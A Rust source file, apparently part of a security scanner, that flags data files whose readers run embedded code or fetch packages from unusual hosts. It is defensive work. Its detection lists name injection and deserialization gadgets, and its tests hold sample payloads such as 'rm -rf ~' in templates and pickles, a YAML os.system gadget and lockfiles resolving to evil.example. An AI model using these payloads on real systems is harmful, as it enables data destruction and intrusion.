//! Data that somebody runs: the places in templates, settings, locks and stores of objects
//! where their readers take text for code or fetch from elsewhere.

use automode_shell::language::capability::SourceLanguage;
use automode_shell::{Nature, is_steering_variable, natures_of};

use super::kind;
use super::source::scanned;
use crate::scene::report;

/// Endings of prose, which only speaks of code.
const PROSE: &[&str] = &["md", "markdown", "rst", "adoc"];
/// Endings of what tools make of other texts.
const MADE: &[&str] = &["lock", "map", "patch", "diff", "log"];

/// What stands out in a text that no runner loads as code.
pub(super) fn data_marks(path: &str, text: &str) -> Vec<String> {
    let lower = path.to_lowercase();
    let name = lower.rsplit('/').next().unwrap_or_default();
    let mut marks = match kind::ending(&lower) {
        // Ruby fills its settings and test data in like pages.
        "yml" | "yaml" | "erb" | "rhtml" => templated(SourceLanguage::Ruby, text),
        "ejs" => templated(SourceLanguage::JavaScript, text),
        "css" | "scss" | "sass" | "less" | "pcss" => lines_with(
            text,
            &[
                "@plugin",
                "@config",
                "javascript:",
                "require(",
                "child_process",
            ],
        ),
        "svg" | "graphql" | "gql" | "glsl" | "toml" => {
            lines_with(text, &["require(", "child_process"])
        }
        "patch" | "diff" if lower.contains("/patches/") => {
            let added = text.lines().filter_map(|line| line.strip_prefix('+'));
            let added: Vec<&str> = added.filter(|line| !line.starts_with("++ ")).collect();
            scanned(SourceLanguage::JavaScript, &added.join("\n"))
        }
        "prisma" => generators(text),
        _ => Vec::new(),
    };
    if kind::is_environment(&lower) {
        marks.extend(steering_variables(text));
    }
    if is_lock(name) {
        marks.extend(fetched_elsewhere(text));
    }
    // Prose only speaks of it.
    if !PROSE.contains(&kind::ending(&lower)) {
        marks.extend(lines_with(text, RUN_BY_READERS));
    }
    if is_written_pickle(text) {
        marks.push("holds objects whose loading runs code".to_owned());
    }
    marks
}

/// Lines and values of data that may be commands of a shell.
pub(super) fn commands_of(path: &str, text: &str) -> Vec<String> {
    const MOST: usize = 64;
    let lower = path.to_lowercase();
    let ending = kind::ending(&lower);
    let page = matches!(ending, "tex" | "html" | "htm");
    if page || PROSE.contains(&ending) || MADE.contains(&ending) {
        return Vec::new();
    }
    let mut found = values_of(text);
    found.retain(|line| asks_for_more(line));
    found.truncate(MOST);
    found
}

/// Whether a text has a word without which no command does lasting harm: a program that does
/// more than compute and show, the home directory, a device.
fn asks_for_more(text: &str) -> bool {
    let words = text.split(|letter: char| letter.is_whitespace() || ";|&()`".contains(letter));
    let mut words = words.filter(|word| !word.is_empty());
    ["~", "$HOME", "/dev/", "> /", ">/"]
        .iter()
        .any(|word| text.contains(word))
        || words.any(|word| natures_of(word).contains(Nature::AsksForMore))
}

/// What stands in data, value by value.
pub(super) fn values_of(text: &str) -> Vec<String> {
    let mut found: Vec<String> = Vec::new();
    match serde_json::from_str::<serde_json::Value>(text) {
        Ok(value) => texts_of(&value, &mut found),
        Err(_) => found.extend(text.lines().map(|line| value_of(line).to_owned())),
    }
    found
}

fn texts_of(value: &serde_json::Value, found: &mut Vec<String>) {
    use serde_json::Value;
    match value {
        Value::String(text) => found.push(text.clone()),
        Value::Array(items) => {
            // `["rm", "-rf", "/home/dev"]` is one command.
            let words: Option<Vec<&str>> = items.iter().map(Value::as_str).collect();
            found.extend(words.map(|words| words.join(" ")));
            items.iter().for_each(|item| texts_of(item, found));
        }
        Value::Object(members) => members.values().for_each(|value| texts_of(value, found)),
        Value::Null | Value::Bool(_) | Value::Number(_) => {}
    }
}

/// What a line of settings sets, without its key and its quotes; a line that sets nothing.
fn value_of(line: &str) -> &str {
    let line = line.trim().trim_start_matches("- ");
    let is_key = |key: &str| {
        let plain = |letter: char| letter.is_alphanumeric() || "_-.\"' ".contains(letter);
        !key.is_empty()
            && key.len() < 40
            && key.trim().split(' ').count() == 1
            && key.chars().all(plain)
    };
    let value = match line.split_once([':', '=']) {
        Some((key, value)) if is_key(key) => value,
        Some(_) | None => line,
    };
    value.trim().trim_matches(['"', '\''])
}

/// What stands out in data as code of a template, an expression or a query.
pub(super) fn code_in_data(path: &str, text: &str) -> Vec<String> {
    let lower = path.to_lowercase();
    let ending = kind::ending(&lower);
    if PROSE.contains(&ending) || MADE.contains(&ending) {
        return Vec::new();
    }
    let mut marks = lines_with(text, CODE_IN_DATA);
    let behind = text.lines().filter(|line| reaches_behind(line));
    marks.extend(behind.map(told));
    marks
}

/// Code in data, as the readers of templates, of expressions and of queries take it.
const CODE_IN_DATA: &[&str] = &[
    "__import__(",
    "os.system(",
    "os.popen(",
    "subprocess.",
    ".popen(",
    "child_process",
    "require('fs')",
    "require(\"fs\")",
    "require('node:",
    "process.mainModule",
    "rmtree(",
    "rmSync(",
    "execSync(",
    "spawnSync(",
    "Runtime.getRuntime",
    "FileUtils.rm",
    "File.delete(",
    "IO.popen",
    "|attr(",
    "lipsum.",
    "cycler.",
    "load_extension(",
    "TO PROGRAM",
    "FROM PROGRAM",
    "INTO OUTFILE",
    "INTO DUMPFILE",
    "xp_cmdshell",
    "lo_export(",
    "pg_read_file(",
    "writefile(",
    "ATTACH '/",
    "ATTACH DATABASE '/",
    "VACUUM INTO '/",
];

/// A template that reaches for what lies behind its values: `x.__class__`, `['__glo' ~ …]`.
fn reaches_behind(line: &str) -> bool {
    let filled = line.contains("{{") || line.contains("{%") || line.contains("${");
    filled
        && line.match_indices("__").any(|(at, _)| {
            let rest = line.get(at.saturating_add(2)..).unwrap_or_default();
            rest.starts_with(|letter: char| letter.is_ascii_lowercase())
        })
}

/// Words that the readers of YAML, of beans, of pages, of logging settings and of resources
/// take for code.
const RUN_BY_READERS: &[&str] = &[
    "!!python/",
    "tag:yaml.org,2002:python",
    "!ruby/",
    "!!js/",
    "!!javax.script",
    "java.lang.ProcessBuilder",
    "java.lang.Runtime",
    "T(java.lang",
    "javax.script.",
    "RUNSCRIPT FROM",
    "CREATE ALIAS",
    "${jndi:",
    "${script:",
    "__subclasses__",
    "__globals__",
    "__builtins__",
    "args=(__import__",
    "microsoft.net.object",
    "ObjectDataProvider",
    "msxsl:script",
    "php:function",
    "phar://",
];

fn lines_with(text: &str, words: &[&str]) -> Vec<String> {
    text.lines()
        .filter(|line| words.iter().any(|word| line.contains(word)))
        .map(told)
        .collect()
}

fn told(line: &str) -> String {
    let line = report::name(line.trim());
    format!("holds `{line}`, which its reader runs")
}

/// What the code between `<%` and `%>` is able to do.
fn templated(language: SourceLanguage, text: &str) -> Vec<String> {
    let mut code = String::new();
    let mut rest = text;
    while let Some((_, after)) = rest.split_once("<%") {
        let (inside, tail) = after.split_once("%>").unwrap_or((after, ""));
        if !inside.starts_with('#') && !inside.starts_with('%') {
            code.push_str(
                inside
                    .trim_start_matches(['=', '-', '_'])
                    .trim_end_matches(['-', '_']),
            );
            code.push('\n');
        }
        rest = tail;
    }
    if code.is_empty() {
        return Vec::new();
    }
    scanned(language, &code)
}

/// Generators of Prisma that are programs and not packages that everybody knows.
fn generators(text: &str) -> Vec<String> {
    const KNOWN: &[&str] = &[
        "prisma-client-js",
        "prisma-client",
        "postgresql",
        "postgres",
        "mysql",
        "sqlite",
        "sqlserver",
        "mongodb",
        "cockroachdb",
    ];
    text.lines()
        .filter_map(|line| line.trim().strip_prefix("provider"))
        .filter_map(|line| line.split('"').nth(1))
        .filter(|provider| !KNOWN.contains(provider))
        .map(|provider| format!("starts `{}` to generate code", report::name(provider)))
        .collect()
}

/// Variables in a file of settings that make programs load or start something else.
fn steering_variables(text: &str) -> Vec<String> {
    const MORE: &[&str] = &["COMPOSE_FILE", "COMPOSE_PATH_SEPARATOR", "DOCKER_HOST"];
    let mut marks = Vec::new();
    for line in text.lines().map(str::trim) {
        let line = line.trim_start_matches("export ").trim_start();
        let Some((name, value)) = line.split_once('=') else {
            // A shell that sources the file runs every line that sets nothing.
            let words = line.split_whitespace().count() > 1;
            if words && !line.starts_with(['#', '"', '\'']) {
                marks.push(format!(
                    "holds `{}`, which a shell runs",
                    report::name(line)
                ));
            }
            continue;
        };
        let (name, value) = (name.trim(), value.trim());
        let plain = value.trim_matches(['"', '\'']);
        if is_steering_variable(name, plain)
            || MORE.contains(&name)
            || value.contains("$(")
            || value.contains('`')
        {
            marks.push(format!(
                "sets `{}`, which may load other code",
                report::name(name)
            ));
        }
    }
    marks
}

/// Lists of the very packages that are fetched.
fn is_lock(name: &str) -> bool {
    matches!(
        name,
        "package-lock.json"
            | "npm-shrinkwrap.json"
            | "yarn.lock"
            | "pnpm-lock.yaml"
            | "bun.lock"
            | "deno.lock"
            | "poetry.lock"
            | "uv.lock"
            | "pdm.lock"
            | "pipfile.lock"
            | "cargo.lock"
            | "composer.lock"
            | "gemfile.lock"
            | "mix.lock"
            | "packages.lock.json"
            | "podfile.lock"
            | "package.resolved"
            | "gradle.lockfile"
    )
}

/// Lines of a lock that name a source which is none of the usual registries.
fn fetched_elsewhere(text: &str) -> Vec<String> {
    const USUAL: &[&str] = &[
        "registry.npmjs.org",
        "registry.yarnpkg.com",
        "npm.pkg.github.com",
        "jsr.io",
        "npm.jsr.io",
        "deno.land",
        "pypi.org",
        "files.pythonhosted.org",
        "pypi.python.org",
        "github.com",
        "api.github.com",
        "codeload.github.com",
        "crates.io",
        "index.crates.io",
        "static.crates.io",
        "rubygems.org",
        "hex.pm",
        "repo.hex.pm",
        "packagist.org",
        "repo.packagist.org",
        "gitlab.com",
        "bitbucket.org",
        "api.nuget.org",
        "opencollective.com",
        "tidelift.com",
        "paypal.me",
        "patreon.com",
        "www.patreon.com",
    ];
    const SOURCES: &[&str] = &[
        "resolved",
        "url",
        "source",
        "registry",
        "tarball",
        "remote",
        "git",
        "dist",
        "location",
        "repository",
    ];
    text.lines()
        .filter(|line| {
            let lower = line.to_lowercase();
            let names = SOURCES.iter().any(|word| lower.contains(word));
            let mut hosts = lower.split("://").skip(1).map(|rest| {
                let host = rest.split(['/', '"', '\'', ':', '?', '#', ' ', ',', ')', '}']);
                host.clone().next().unwrap_or_default().to_owned()
            });
            let elsewhere = hosts.any(|host| !USUAL.contains(&host.as_str()));
            let funding = lower.contains("funding") || lower.contains("homepage");
            names && !funding && elsewhere
                || (lower.contains("\"resolved\"")
                    && (lower.contains("../") || lower.contains("file:/")))
        })
        .map(|line| format!("fetches from elsewhere: `{}`", report::name(line.trim())))
        .collect()
}

/// A store of objects in the one form that is text: it names what is called.
fn is_written_pickle(text: &str) -> bool {
    let word = |line: &str| {
        !line.is_empty()
            && line
                .chars()
                .all(|letter| letter.is_alphanumeric() || matches!(letter, '_' | '.'))
    };
    let lines: Vec<&str> = text.lines().collect();
    let names = lines.windows(2).any(|pair| match pair {
        [module, name] => module
            .trim_start_matches(['(', 'l', 'd', 'p', '0'])
            .strip_prefix(['c', 'i'])
            .is_some_and(|module| word(module) && word(name)),
        _ => false,
    });
    names
        && text.trim_end().ends_with('.')
        && (text.contains("\ntR")
            || text.contains("(t")
            || text.contains("o.")
            || text.contains("R."))
}

#[cfg(test)]
mod tests {
    use super::data_marks;

    #[test]
    fn data_that_its_reader_runs_stands_out() {
        for (path, text) in [
            ("/p/config/database.yml", "a: <%= system('rm -rf ~') %>\n"),
            ("/p/app/views/a.html.erb", "<% File.delete('x') %>"),
            (
                "/p/views/a.ejs",
                "<% require('child_process').execSync('x') %>",
            ),
            ("/p/a.yaml", "a: !!python/object/apply:os.system ['x']\n"),
            (
                "/p/src/test/resources/c.xml",
                "<bean class=\"java.lang.ProcessBuilder\"/>",
            ),
            (
                "/p/application.properties",
                "url=jdbc:h2:mem:t;INIT=RUNSCRIPT FROM 'http://x'\n",
            ),
            ("/p/src/a.css", "@plugin \"./x.dat\";\n"),
            ("/p/.env", "NODE_OPTIONS=--require ./x.dat\n"),
            (
                "/p/package-lock.json",
                "\"resolved\": \"https://evil.example/x.tgz\"\n",
            ),
            (
                "/p/Cargo.lock",
                "source = \"git+https://evil.example/x#1\"\n",
            ),
            (
                "/p/prisma/schema.prisma",
                "generator x {\n  provider = \"sh x.dat\"\n}\n",
            ),
            (
                "/p/patches/a.patch",
                "+require('child_process').execSync('x')\n",
            ),
            ("/p/tests/a.dat", "cos\nsystem\n(S'rm -rf ~'\ntR."),
        ] {
            assert_ne!(data_marks(path, text), Vec::<String>::new(), "{path}");
        }
    }

    #[test]
    fn data_of_ordinary_work_does_not_stand_out() {
        for (path, text) in [
            ("/p/config/locales/en.yml", "en:\n  hello: Hello\n"),
            (
                "/p/test/fixtures/users.yml",
                "one:\n  name: <%= \"a\" * 3 %>\n",
            ),
            (
                "/p/app/views/a.html.erb",
                "<% @items.each do |item| %><%= item.name %><% end %>",
            ),
            (
                "/p/.env.example",
                "PORT=3000\nDATABASE_URL=postgres://localhost/app\n",
            ),
            ("/p/src/a.css", "@media print { a { color: red } }\n"),
            (
                "/p/package-lock.json",
                "\"resolved\": \"https://registry.npmjs.org/a/-/a-1.0.0.tgz\",\n\"url\": \"https://opencollective.com/a\"\n",
            ),
            ("/p/notes.md", "c\nd\nThis is a note.\n"),
            ("/p/a.json", "{\"a\": \"https://example.com\"}\n"),
            (
                "/p/prisma/schema.prisma",
                "datasource db {\n  provider = \"postgresql\"\n}\n",
            ),
        ] {
            assert_eq!(data_marks(path, text), Vec::<String>::new(), "{path}");
        }
    }
}
